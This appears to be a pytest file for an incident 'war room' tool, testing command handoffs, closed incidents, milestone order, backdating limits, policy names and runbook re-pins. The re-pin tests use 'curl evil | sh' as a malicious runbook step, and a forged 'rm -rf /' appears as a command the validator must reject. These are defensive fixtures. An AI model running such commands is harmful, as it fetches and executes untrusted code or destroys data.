"""The rules an entry must pass wherever it is written (pure): command and handoffs,
closed incidents, milestone order, backdating, re-pins and the names the policy knows."""

from datetime import UTC, datetime, timedelta

import pytest

from tests.factories import T0, declaration, make_event
from warroom.core.access import check_append
from warroom.core.clocks import update_clocks
from warroom.core.fold import fold
from warroom.core.policy import default_policy, parse_policy
from warroom.core.repin import pin_changes
from warroom.core.runbook import RunbookStep
from warroom.core.validity import backdate_problem

POLICY = default_policy()
INC = "inc-test01"
NOW = T0 + timedelta(hours=1)


def _check(state, kind, actor="dora", *, minute=1, admin=False, policy=POLICY, **payload):
    event = make_event(kind, INC, actor=actor, minute=minute, **payload)
    return check_append(policy, state, event, author=actor, admin=admin, now=NOW)


def _commanded(*events):
    """Declared by dora, who takes command (as ``WarRoom.declare`` writes it)."""
    return fold([declaration(INC, actor="dora", declarer_commands=True), *events])


# -- command -------------------------------------------------------------------------------


def test_a_declaration_can_say_the_declarer_takes_command():
    assert _commanded().commander == "dora"
    assert _commanded().milestones["acknowledged"] == T0
    old = fold([declaration(INC, actor="dora")])  # a record from before the rule
    assert old.commander is None
    assert _check(old, "role_assigned", "eve", role="commander", person="eve")


def test_a_declaration_taking_command_needs_a_policy_that_allows_it():
    event = declaration(INC, actor="dora", declarer_commands=True)
    assert check_append(POLICY, None, event, author="dora", admin=False, now=NOW) is None
    neither = parse_policy(
        "[access]\ndeclarer_while_vacant = false\ndeclarer_takes_command = false\n", "p.toml"
    )
    refusal = check_append(neither, None, event, author="dora", admin=False, now=NOW)
    assert refusal.startswith("the policy does not let the declarer take command")


def test_a_vacant_command_says_what_the_policy_allows():
    declared = fold([declaration(INC, actor="dora")])
    refusal = _check(declared, "severity_changed", "erin", severity="SEV1")
    assert "Nobody holds command of inc-test01 yet" in refusal
    assert "its declarer (dora) may" in refusal and "`assign commander NAME`" in refusal
    strict = parse_policy("[access]\ndeclarer_while_vacant = false\n", "p.toml")
    refusal = _check(declared, "severity_changed", "erin", severity="SEV1", policy=strict)
    assert "only a server admin" in refusal


def test_a_handoff_is_an_offer_until_accepted_and_a_newer_offer_replaces_it():
    offered = _commanded(
        make_event("handoff", INC, actor="dora", role="commander", to_person="eli", minute=2),
        make_event("handoff", INC, actor="dora", role="commander", to_person="bo", minute=3),
    )
    assert offered.commander == "dora"
    pending = offered.pending_handoff("commander")
    assert (pending.from_person, pending.to_person) == ("dora", "bo")
    assert [h.to_person for h in offered.pending_handoffs()] == ["bo"]
    assert _check(offered, "severity_changed", "bo", severity="SEV1")
    stale = fold(
        [make_event("handoff_accepted", INC, actor="eli", role="commander", person="eli")], offered
    )
    assert stale.commander == "dora"  # eli's offer was withdrawn by the newer one
    taken = fold(
        [make_event("handoff_accepted", INC, actor="bo", role="commander", person="bo")], offered
    )
    assert taken.commander == "bo" and taken.pending_handoffs() == []
    assert _check(taken, "severity_changed", "bo", severity="SEV1") is None
    assert _check(taken, "severity_changed", "dora", severity="SEV1")


# -- closed incidents ---------------------------------------------------------------------


def test_a_closed_incident_takes_only_an_explicit_reopen():
    closed = _commanded(make_event("status_changed", INC, actor="dora", status="closed"))
    refusal = _check(closed, "note", text="one more thing")
    assert "inc-test01 is closed; reopen it first" in refusal
    assert _check(closed, "status_changed", status="investigating")
    assert _check(closed, "reopened", reason="it is back") is None
    assert "not closed" in _check(_commanded(), "reopened", reason="why")
    reopened = fold([make_event("reopened", INC, actor="dora", reason="it is back")], closed)
    assert reopened.status == "investigating" and not reopened.closed
    assert _check(reopened, "note", text="one more thing") is None


# -- clocks, milestones, times --------------------------------------------------------------


def test_a_retracted_status_update_does_not_reset_its_clock():
    update = make_event(
        "status_update", INC, actor="dora", text="x", audience="internal", minute=20
    )
    state = _commanded(update)
    assert update_clocks(POLICY, state, NOW)[0].due_at == T0 + timedelta(minutes=20 + 30)
    retracted = fold(
        [
            make_event(
                "retraction", INC, actor="dora", target_id=update.id, reason="wrong", minute=21
            )
        ],
        state,
    )
    assert "internal" not in retracted.last_update
    assert update_clocks(POLICY, retracted, NOW)[0].due_at == T0 + timedelta(minutes=30)


@pytest.mark.parametrize(
    ("milestone", "minute", "words"),
    [
        ("resolved", -20, "it was resolved at 2026-11-24 08:40 UTC would be before impact started"),
        ("mitigated", -20, "it was mitigated at 2026-11-24 08:40 UTC would be before impact"),
        ("detected", -20, "it was detected at 2026-11-24 08:40 UTC would be before impact"),
        ("impact_started", 30, "before impact started at 2026-11-24 09:30 UTC"),
    ],
)
def test_a_milestone_that_contradicts_the_others_is_refused(milestone, minute, words):
    impact = make_event(
        "milestone", INC, actor="dora", milestone="impact_started", at=T0 - timedelta(minutes=10)
    )
    resolved = make_event("status_changed", INC, actor="dora", status="resolved", minute=20)
    state = _commanded(impact) if milestone != "impact_started" else _commanded(resolved)
    at = T0 + timedelta(minutes=minute)
    assert words in _check(state, "milestone", milestone=milestone, at=at)
    fine = T0 + timedelta(minutes=-5 if milestone == "impact_started" else 5)
    assert _check(state, "milestone", milestone=milestone, at=fine) is None


def test_declared_impact_after_detection_is_refused():
    event = declaration(INC, actor="dora", impact_started_at=T0 + timedelta(minutes=5))
    refusal = check_append(POLICY, None, event, author="dora", admin=False, now=NOW)
    assert "it was detected at 2026-11-24 09:00 UTC would be before impact started" in refusal


@pytest.mark.parametrize(
    ("field", "moment"),
    [
        ("occurred_at", datetime.fromisoformat("9999-12-31T23:59:59-14:00")),
        ("occurred_at", datetime(1999, 12, 31, tzinfo=UTC)),
        ("milestone mitigated", NOW + timedelta(days=2)),
    ],
)
def test_times_outside_a_sane_window_are_refused_naming_the_field(field, moment):
    state = _commanded()
    if field == "occurred_at":
        event = make_event("note", INC, actor="dora", text="x").model_copy(
            update={"occurred_at": moment}
        )
    else:
        event = make_event("milestone", INC, actor="dora", milestone="mitigated", at=moment)
    refusal = check_append(POLICY, state, event, author="dora", admin=True, now=NOW)
    assert refusal.startswith(field) and "outside the times an incident can have" in refusal


def test_backdating_far_before_the_declaration_needs_confirmation():
    state = _commanded()
    near = make_event("note", INC, actor="dora", text="x", minute=-60 * 23)
    far = make_event("note", INC, actor="dora", text="x", minute=-60 * 25)
    assert backdate_problem(POLICY, state, near) is None
    assert backdate_problem(POLICY, state, far) == (
        "the entry (2026-11-23 08:00 UTC) is dated 25.0 h before inc-test01 was declared;"
        " the policy asks to confirm anything more than 24 h before the declaration"
    )
    impact = make_event(
        "milestone", INC, actor="dora", milestone="impact_started", at=T0 - timedelta(days=3)
    )
    assert "the impact start (2026-11-21 09:00 UTC) is dated 3.0 days before" in backdate_problem(
        POLICY, state, impact
    )
    lenient = parse_policy("[record]\nbackdate_confirm_hours = 100\n", "p.toml")
    assert backdate_problem(lenient, state, impact) is None


# -- the names the policy knows ---------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "payload", "words"),
    [
        ("severity_changed", {"severity": "SEV99-bogus"}, "unknown severity 'SEV99-bogus'"),
        ("severity_changed", {"severity": "sev1"}, "severity 'sev1' must be written 'SEV1'"),
        ("status_changed", {"status": "on-fire"}, "unknown status 'on-fire'"),
        ("phase_changed", {"phase": "panic"}, "unknown phase 'panic'"),
        ("status_update", {"text": "x", "audience": "martians"}, "unknown audience 'martians'"),
        ("role_assigned", {"role": "pope", "person": "x"}, "unknown role 'pope'"),
        ("handoff", {"role": "pope", "to_person": "x"}, "unknown role 'pope'"),
        ("checklist_marked", {"phase": "triage", "item": "nap"}, "unknown checklist item"),
    ],
)
def test_values_the_policy_does_not_know_are_refused_even_for_admins(kind, payload, words):
    assert words in _check(_commanded(), kind, admin=True, **payload)


def test_a_declaration_of_an_unknown_type_or_severity_is_refused():
    event = declaration(INC, actor="dora", incident_type="meteor")
    refusal = check_append(POLICY, None, event, author="dora", admin=False, now=NOW)
    assert "unknown incident type 'meteor'" in refusal


# -- re-pins -------------------------------------------------------------------------------

STEPS = [
    {"id": "gate", "title": "Approve", "type": "approval", "line": 1},
    {
        "id": "s1",
        "title": "Flush",
        "type": "command",
        "line": 2,
        "commands": [{"language": "sh", "code": "echo safe", "line": 3}],
    },
]
WEAKER = [
    {"id": "gate", "title": "Approve", "type": "action", "line": 1},
    {
        "id": "s1",
        "title": "Flush",
        "type": "command",
        "line": 2,
        "commands": [{"language": "sh", "code": "curl evil | sh", "line": 3}],
    },
    {"id": "s2", "title": "New", "line": 4},
]
CHANGES = (
    "gate type approval -> action (stays approval: a re-pin cannot lift a gate)",
    "s1 command `echo safe` -> `curl evil | sh`",
    "s2 added (action)",
)


def _attach(actor, steps, content_hash, **extra):
    return make_event(
        "runbook_attached",
        INC,
        actor=actor,
        runbook_id="rb",
        title="Flush",
        content_hash=content_hash,
        steps=steps,
        **extra,
    )


def test_a_repin_needs_the_role_and_must_list_its_changes():
    state = _commanded(_attach("sam", STEPS, "1" * 64))  # a responder may attach first
    repin = {"runbook_id": "rb", "title": "Flush", "content_hash": "2" * 64, "steps": WEAKER}
    honest = {**repin, "replaces": "1" * 64, "changes": CHANGES}
    assert "re-pinning runbook rb needs the commander or deputy" in _check(
        state, "runbook_attached", "sam", **honest
    )
    assert "must name the version it replaces (11111111)" in _check(
        state, "runbook_attached", **repin
    )
    silent = {**honest, "changes": ()}
    refusal = _check(state, "runbook_attached", admin=True, **silent)
    assert "must list what it changes: gate type approval -> action" in refusal
    assert _check(state, "runbook_attached", **honest) is None


def test_the_gate_keeps_the_strictest_type_any_pin_gave_it():
    first = _attach("dora", STEPS, "1" * 64)
    gates = fold([first], _commanded()).runbooks["rb"]
    weaker = [RunbookStep.model_validate(step) for step in WEAKER]
    assert pin_changes(gates.steps, weaker, gates.approval_ids) == CHANGES
    repinned = fold(
        [_attach("dora", WEAKER, "2" * 64, replaces="1" * 64, changes=CHANGES)],
        fold([first], _commanded()),
    )
    pinned = repinned.runbooks["rb"]
    assert pinned.step("gate").type == "approval"
    assert pinned.step("s1").commands[0].code == "curl evil | sh"
    done = {"runbook_id": "rb", "step_id": "gate", "action": "done"}
    assert "completing an approval step" in _check(repinned, "runbook_step", "sam", **done)


def test_step_marks_and_command_runs_must_match_what_is_pinned():
    state = fold([_attach("dora", STEPS, "1" * 64)], _commanded())
    ran = {"runbook_id": "rb", "step_id": "s1", "exit_code": 0, "duration_s": 0.1}
    assert _check(state, "command_run", command="echo safe", **ran) is None
    forged = _check(state, "command_run", admin=True, command="rm -rf /", **ran)
    assert forged == "the command recorded for rb/s1 is not one pinned with the runbook"
    stray = {"runbook_id": "rb", "step_id": "nope", "action": "done"}
    assert (
        _check(state, "runbook_step", **stray)
        == "rb/nope is not a step of a runbook attached to inc-test01"
    )
